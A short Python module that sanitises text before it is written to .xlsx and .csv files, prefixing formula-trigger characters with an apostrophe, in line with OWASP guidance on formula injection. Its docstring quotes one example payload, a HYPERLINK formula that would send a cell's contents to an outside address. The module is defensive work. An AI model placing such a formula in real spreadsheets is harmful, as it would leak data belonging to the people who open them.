"""Writing values that came from a person into .xlsx and .csv files, safely.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return can be
run as a formula by a spreadsheet (CSV/formula injection: ``=HYPERLINK("http://…?"&A1)``
leaks the sheet). Following OWASP, such text is written with a leading apostrophe, which
every spreadsheet shows as text; in .xlsx it is also stored as a plain string, never a
formula. Every writer of the product (trích ngang, decisions, audit exports, templates,
reports) passes its values through ``safe_value``.
"""

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_text(text: str) -> str:
    """``text`` that no spreadsheet will evaluate."""
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def safe_value(value):
    """A cell value for openpyxl or csv: numbers and dates unchanged, text neutralised and
    without the control characters an .xlsx file cannot hold."""
    if value is None:
        return ""
    if isinstance(value, str):
        return safe_text(ILLEGAL_CHARACTERS_RE.sub("", value))
    return value


def safe_row(values) -> list:
    return [safe_value(value) for value in values]
